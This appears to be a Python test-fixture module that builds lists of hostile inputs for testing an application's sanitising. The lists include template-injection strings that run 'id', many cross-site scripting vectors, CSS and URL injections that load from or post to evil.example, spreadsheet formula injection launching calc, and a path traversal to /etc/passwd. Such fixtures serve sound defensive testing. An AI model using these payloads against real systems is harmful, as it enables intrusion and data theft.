"""Hostile texts of kinds that the file of payloads lacks."""

from __future__ import annotations

from .hostile import Payload

# Names that a script looks up in its own objects where it meant a table.
_KEYS = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "then",
    "length",
    "name",
]

_TEMPLATES = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# gone #}{{7*7}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "<?php alert(1) ?>",
    "{{< include secret.md >}}",
    "{{% include %}}",
    "`r system('id')`",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[x](javascript:alert(1))",
    "<!--slot:scripts--><!--slot:data-->",
    "%(title)s %s {0} {title!r} {0.__class__}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
]

_MARKUP = [
    "</script\t/><script>alert(1)</script>",
    "</SCRIPT\n><svg/onload=alert(1)>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "--!><img src onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</td></table></noscript><script>alert(1)</script>",
    "</title></style></textarea></template><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<form action=https://evil.example/><input name=x autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x'/></svg>",
    "<div id=clashline-data>{}</div>",
    "<img name=trustedTypes><a id=Clashline><a id=L>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<object data=javascript:alert(1)>",
    "<x is=clash-map onclick=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b$B<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
]

_STYLES = [
    "red;background:url(//evil.example/x)",
    "red}*{background:url(//evil.example/x)}",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "</style><script>alert(1)</script>",
    "@import '//evil.example/x.css';",
    "var(--x);--x:url(//evil.example)",
    "\\3c script\\3e alert(1)",
    "cl-app leaflet-container k-clash is-selected",
    "url(#cl-map-1-hatch-clash)",
]

_ADDRESSES = [
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://x",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https://user:word@evil.example/",
    'https://evil.example/" onmouseover="alert(1)',
    "https://evil.example/\njavascript:alert(1)",
    "http://[::1]:0/",
    "https://xn--/",
    "#incident=<img src=x onerror=alert(1)>",
    "about:srcdoc",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "intent://evil#Intent;scheme=javascript;end",
]

_CHARACTERS = [
    "a\0b",
    "\ufeffbom",
    "line\u2028sep\u2029par",
    "\u202eevil\u202c \u2066isolated",
    "\u202e\u202e\u202e never closed",
    "\u200b\u200c\u200d\u2060",
    "a\rb\r\nc\vd\fe\x85f",
    "\x1b[31mred\x1b[0m\x07",
    "e" + "\u0301" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041\U000e0042",
    "\ufffe\uffff\U0010ffff",
    "\ue000\uf8ff",
    "A" * 100_000,
    "<س&" * 1_000,
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../etc/passwd",
    "CON.html",
    "-rf",
    "%s%n%x",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "true",
    "0",
    "; ",
]


def further_payloads():
    """Make them; in each kind all are held to what every payload is held to."""
    kinds = {"key": _KEYS, "template": _TEMPLATES, "markup": _MARKUP, "style": _STYLES, "address": _ADDRESSES}
    return [
        Payload(f"{kind}-{number:03d}", text, ())
        for kind, texts in {**kinds, "character": _CHARACTERS}.items()
        for number, text in enumerate(texts)
    ]
